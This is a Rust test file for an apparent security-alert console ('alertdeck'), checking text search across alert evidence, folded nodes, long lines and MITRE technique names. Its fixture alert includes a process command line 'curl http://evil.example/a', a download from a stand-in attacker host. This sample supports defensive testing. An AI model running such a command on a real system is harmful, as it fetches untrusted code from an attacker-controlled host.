@@ -1,0 +1,319 @@
+//! Finding a text in an alert: in what is folded, in what no line shows, and back.
+
+use alertdeck::app::{Input, Key, KeyCode, Message};
+use rstest::rstest;
+use serde_json::{Value, json};
+
+use super::{
+    harness::{Harness, alert, theme, with},
+    overview::{node, visible},
+    screens::cells,
+};
+
+/// An alert with a device, two processes in a chain, and a file whose signer no line shows.
+fn story() -> Value {
+    let kind = |name: &str| format!("#microsoft.graph.security.{name}Evidence");
+    with(
+        alert(1),
+        json!({
+            "description": "A tool that empties the mail box was started by a document from the net.",
+            "evidence": [
+                {"@odata.type": kind("device"), "deviceDnsName": "srv-1.contoso.com", "mdeDeviceId": "m1"},
+                {"@odata.type": kind("process"), "processId": 10, "mdeDeviceId": "m1",
+                    "processCreationDateTime": "2026-11-20T00:00:10Z", "imageFile": {"fileName": "word.exe"},
+                    "processCommandLine": "word.exe C:\\Übung.doc"},
+                {"@odata.type": kind("process"), "processId": 20, "parentProcessId": 10, "mdeDeviceId": "m1",
+                    "processCreationDateTime": "2026-11-20T00:00:20Z",
+                    "parentProcessCreationDateTime": "2026-11-20T00:00:10Z",
+                    "processCommandLine": "curl http://evil.example/a", "imageFile": {"fileName": "curl.exe",
+                    "filePublisher": "Contoso Signing CA"}},
+                {"@odata.type": kind("ip"), "ipAddress": "203.0.113.9"},
+            ],
+        }),
+    )
+}
+
+fn typing(console: &mut Harness, text: &str) {
+    console.keys("/");
+    console.type_text(text);
+}
+
+/// What the rule says of the hits, and the text under the cursor.
+fn place(console: &Harness) -> (String, String) {
+    let find = console.app.current_detail().unwrap().find.as_ref().unwrap();
+    (format!("{} of {}", find.number().unwrap_or(0), find.count()), node(console))
+}
+
+#[rstest]
+#[case::case_is_no_matter("CURL.EXE", "1 of 1", "curl.exe (20)")]
+#[case::letters_beyond_ascii("übung", "1 of 1", "word.exe (10)")]
+#[case::a_value_that_no_line_shows("signing ca", "1 of 1", "curl.exe (20)")]
+#[case::defanged("hxxp://evil[.]example", "1 of 1", "curl.exe (20)")]
+#[case::defanged_address("203[.]0[.]113[.]9", "1 of 1", "203.0.113.9")]
+#[case::across_the_end_of_a_line("mail box was started by a document", "1 of 1", "")]
+#[case::the_word_for_such_a_thing("process w", "0 of 0", "")]
+#[case::its_kind("process", "1 of 2", "word.exe (10)")]
+#[case::not_across_values("curl.exe contoso", "0 of 0", "")]
+#[case::no_name_of_a_type("microsoft.graph", "0 of 0", "")]
+#[case::blanks_alone("  ", "0 of 0", "")]
+fn a_text_is_found_wherever_it_is(#[case] text: &str, #[case] count: &str, #[case] at: &str) {
+    let mut console = Harness::holding(&[story()]);
+    console.resize(90, 40);
+    console.keys("Enter");
+    // What is folded is looked through too.
+    console.keys("-");
+    typing(&mut console, text);
+    assert_eq!(place(&console), (count.into(), at.into()));
+}
+
+#[test]
+fn a_hit_in_what_is_folded_unfolds_its_way_and_esc_goes_back() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("Enter j - g j j");
+    let (before, scroll) = (visible(&console), console.app.detail.as_ref().unwrap().scroll);
+    assert!(!before.iter().any(|name| name.contains("curl")), "{before:?}");
+    typing(&mut console, "curl.exe");
+    assert!(visible(&console).iter().any(|name| name.contains("curl")));
+    // Another letter, and it is looked for from where the reader was.
+    console.type_text("x");
+    assert_eq!((visible(&console), console.app.detail.as_ref().unwrap().scroll), (before.clone(), scroll));
+    console.keys("Backspace");
+    assert_eq!(node(&console), "curl.exe (20)");
+    console.keys("Esc");
+    assert_eq!((visible(&console), console.app.detail.as_ref().unwrap().scroll), (before, scroll));
+    assert!(console.app.detail.as_ref().unwrap().find.is_none());
+}
+
+#[test]
+fn enter_stays_and_hits_go_round() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("Enter n");
+    assert_eq!(console.notice(), "nothing is looked for: / finds");
+    typing(&mut console, "exe");
+    console.keys("Enter");
+    assert_eq!(place(&console), ("1 of 2".into(), "word.exe (10)".into()));
+    console.keys("n");
+    assert_eq!(place(&console), ("2 of 2".into(), "curl.exe (20)".into()));
+    console.keys("n");
+    assert_eq!(place(&console), ("1 of 2".into(), "word.exe (10)".into()));
+    console.keys("N");
+    assert_eq!(place(&console), ("2 of 2".into(), "curl.exe (20)".into()));
+    // One rung a press: what is looked for, then the pane.
+    console.keys("Esc");
+    assert!(console.app.detail.as_ref().unwrap().find.is_none());
+    assert_eq!(node(&console), "curl.exe (20)");
+    console.keys("/ x Ctrl-c");
+    assert!(console.app.find_editor().is_none() && console.asked.is_empty());
+}
+
+#[test]
+fn while_typing_arrows_go_on_and_letters_are_text() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("Enter");
+    typing(&mut console, "exe");
+    console.keys("↓");
+    assert_eq!(place(&console), ("2 of 2".into(), "curl.exe (20)".into()));
+    console.keys("Ctrl-p");
+    assert_eq!(place(&console).0, "1 of 2");
+    console.keys("Ctrl-u");
+    console.type_text("qnN?");
+    assert_eq!(console.app.find_editor().unwrap().text(), "qnN?");
+    assert!(console.asked.is_empty() && console.app.overlay.is_none());
+    assert!(console.screen().contains("not found"), "{}", console.screen());
+    console.keys("Ctrl-u");
+    console.paste("evil.example\r\n");
+    assert_eq!(
+        (console.app.find_editor().unwrap().text(), node(&console).as_str()),
+        ("evil.example", "curl.exe (20)")
+    );
+    assert_eq!(console.app.filter.text(), "", "nothing is filtered by it");
+    // Whoever goes away keeps what was found.
+    let list = console.app.layout().list.unwrap();
+    console.send(Message::Input(Input::Click { x: list.x, y: list.y }));
+    assert!(console.app.find_editor().is_none());
+    console.send(Message::Input(Input::Key(Key { code: KeyCode::Tab, ctrl: false })));
+    console.keys("n");
+    assert_eq!(place(&console), ("1 of 1".into(), "curl.exe (20)".into()));
+}
+
+#[test]
+fn the_line_says_where_a_hit_is_that_it_does_not_show() {
+    let mut console = Harness::holding(&[story()]);
+    console.resize(100, 30);
+    console.keys("Enter");
+    typing(&mut console, "signing");
+    let buffer = console.draw(&theme());
+    let line = super::harness::lines(&buffer).into_iter().find(|line| line.contains("curl.exe")).unwrap();
+    assert!(line.contains("… imageFile.filePublisher: Contoso Signing CA"), "{line}");
+    let (hit, beside) = (cells(&buffer, "Signing")[0], cells(&buffer, "Contoso Signing")[0]);
+    assert_ne!(hit.fg, beside.fg, "the hit is set apart");
+    console.keys("Ctrl-u");
+    console.type_text("word");
+    let screen = console.screen();
+    assert!(!screen.contains("… processCommandLine"), "what the line shows needs no more: {screen}");
+}
+
+#[test]
+fn the_next_alert_is_looked_through_for_the_same() {
+    let mut console =
+        Harness::holding(&[story(), with(story(), json!({"id": "other", "description": "curl"}))]);
+    console.keys("Enter");
+    typing(&mut console, "curl");
+    console.keys("Enter");
+    let first = place(&console).0;
+    console.keys("J n");
+    assert_ne!(console.selected(), Some("a1"), "{:?}", console.rows());
+    assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{first}");
+    for (width, height) in [(60, 15), (30, 8), (200, 50)] {
+        console.resize(width, height);
+        console.keys("n");
+        assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().number().is_some());
+    }
+}
+
+#[test]
+fn json_and_time_line_are_looked_through_as_they_are_shown() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("Enter v");
+    typing(&mut console, "filePublisher");
+    assert_eq!(place(&console).0, "1 of 1", "in JSON the names count");
+    console.keys("Enter v");
+    assert_eq!(place(&console).0, "0 of 0");
+    console.keys("Esc t");
+    typing(&mut console, "alert created");
+    assert_eq!(place(&console).0, "1 of 1");
+}
+
+#[test]
+fn in_the_list_slash_is_the_filter() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("/");
+    assert!(console.app.filter.editor.is_some() && console.app.find_editor().is_none());
+}
+
+/// An alert with a text longer than a line without a blank in it, at its end a word of its own.
+fn long_words() -> Value {
+    let url = format!("https://evil.example/{}/needle/{}", "0123456789".repeat(12), "abcdefghij".repeat(8));
+    with(
+        alert(1),
+        json!({
+            "description": format!("Fetched {url} twice."),
+            "evidence": [{"@odata.type": "#microsoft.graph.security.urlEvidence", "url": url}],
+        }),
+    )
+}
+
+/// Joins what is set apart on the screen as found, line by line.
+fn set_apart(console: &Harness) -> Vec<String> {
+    let (theme, buffer) = (theme(), console.draw(&theme()));
+    let area = console.app.layout().detail.unwrap();
+    let line = |y: u16| -> String {
+        let cells = (area.x..area.x + area.width).map(|x| &buffer[(x, y)]);
+        cells.filter(|cell| Some(cell.fg) == theme.found.fg).map(ratatui::buffer::Cell::symbol).collect()
+    };
+    (area.y..area.y + area.height).map(line).filter(|line| !line.trim().is_empty()).collect()
+}
+
+#[rstest]
+#[case::alert("")]
+#[case::json("v")]
+fn what_is_torn_at_the_end_of_a_line_is_found_and_marked_on_every_line(#[case] view: &str) {
+    for width in [60, 80, 97, 200] {
+        let mut console = Harness::holding(&[long_words()]);
+        console.resize(width, 50);
+        console.keys("Enter");
+        console.keys(view);
+        let sought = format!("{}/needle/abc", "0123456789".repeat(9));
+        typing(&mut console, &sought);
+        let find = console.app.current_detail().unwrap().find.as_ref().unwrap();
+        assert_eq!((find.count(), find.may_be_more()), (2, false), "{width} {view}");
+        let marked = set_apart(&console).concat();
+        assert!(marked.contains(&sought), "{width}: {marked}");
+    }
+}
+
+#[test]
+fn a_sentence_is_marked_on_all_lines_that_it_covers() {
+    let mut console = Harness::holding(&[story()]);
+    console.resize(60, 30);
+    console.keys("Enter");
+    typing(&mut console, "mail box was started by a document from the");
+    assert_eq!(set_apart(&console).join(" "), "mail box was started by a document from the");
+}
+
+#[test]
+fn what_is_too_long_to_be_laid_out_is_looked_through_too() {
+    let text = format!("{} the end of it\nand a line more", "much ado about nothing ".repeat(4_000));
+    let mut console = Harness::holding(&[with(alert(1), json!({"description": text}))]);
+    console.keys("Enter");
+    typing(&mut console, "the end of it");
+    assert_eq!(place(&console).0, "1 of 1");
+    let screen = console.screen();
+    assert!(screen.contains("1 of 1+"), "there may be more of it: {screen}");
+    assert!(screen.contains("kB more:  …"), "{screen}");
+    assert_eq!(set_apart(&console), ["the end of it"]);
+    // Where the bound tears a word or a sentence, it is found all the same.
+    console.keys("Ctrl-u");
+    let bound = &text[64 * 1024 - 12..64 * 1024 + 12];
+    console.type_text(bound.trim());
+    assert!(console.app.current_detail().unwrap().find.as_ref().unwrap().count() > 0, "{bound}");
+    console.keys("Ctrl-u");
+    console.type_text("ado");
+    assert!(console.screen().contains("+ "), "{}", console.screen());
+    console.keys("Ctrl-u");
+    console.type_text("not in it");
+    assert!(console.screen().contains("not found"));
+}
+
+#[test]
+fn the_end_of_a_long_command_line_is_found_and_shown() {
+    let evidence = json!([{"@odata.type": "#microsoft.graph.security.processEvidence", "processId": 1,
+        "imageFile": {"fileName": "a.exe"},
+        "processCommandLine": format!("a.exe {} --needle", "x".repeat(1_000_000))}]);
+    let mut console = Harness::holding(&[with(alert(1), json!({"evidence": evidence}))]);
+    console.keys("Enter");
+    typing(&mut console, "--NEEDLE");
+    assert_eq!(place(&console).0, "1 of 1");
+    assert_eq!(set_apart(&console), ["--needle"]);
+    // Of the JSON more than a megabyte is not laid out.
+    console.keys("Enter v");
+    assert_eq!(place(&console).0, "0 of 1");
+    console.keys("n");
+    assert_eq!(set_apart(&console), ["--needle"]);
+}
+
+#[test]
+fn a_pasted_text_that_nobody_looks_for_is_cut_and_that_is_said() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("Enter /");
+    console.paste(&"übung ".repeat(500_000));
+    assert_eq!(console.app.find_editor().unwrap().text().chars().count(), 1_000);
+    assert_eq!(console.notice(), "cut: no more than 1,000 characters are looked for");
+    assert!(console.screen().contains("not found"), "{}", console.screen());
+    console.keys("Ctrl-u u");
+    assert_eq!(place(&console).0, "1 of 5");
+}
+
+#[test]
+fn where_the_line_says_where_a_hit_is_nothing_of_its_counts_is_left() {
+    let mut console = Harness::holding(&[story()]);
+    console.keys("Enter");
+    typing(&mut console, "signing");
+    for width in 50..120 {
+        console.resize(width, 30);
+        let screen = console.screen();
+        let line = screen.lines().find(|line| line.contains("cur") && line.contains(": ")).unwrap();
+        assert!(line.ends_with("Signing CA") || line.ends_with('…'), "{width}: {line}");
+    }
+}
+
+#[test]
+fn a_technique_is_found_by_what_its_id_stands_for() {
+    let mut console = Harness::holding(&[with(alert(1), json!({"mitreTechniques": ["T1059.001"]}))]);
+    console.keys("Enter");
+    for text in ["powershell", "command and scripting", "execution", "t1059.001"] {
+        typing(&mut console, text);
+        assert_eq!(console.app.current_detail().unwrap().find.as_ref().unwrap().count(), 1, "{text}");
+        console.keys("Esc");
+    }
+}
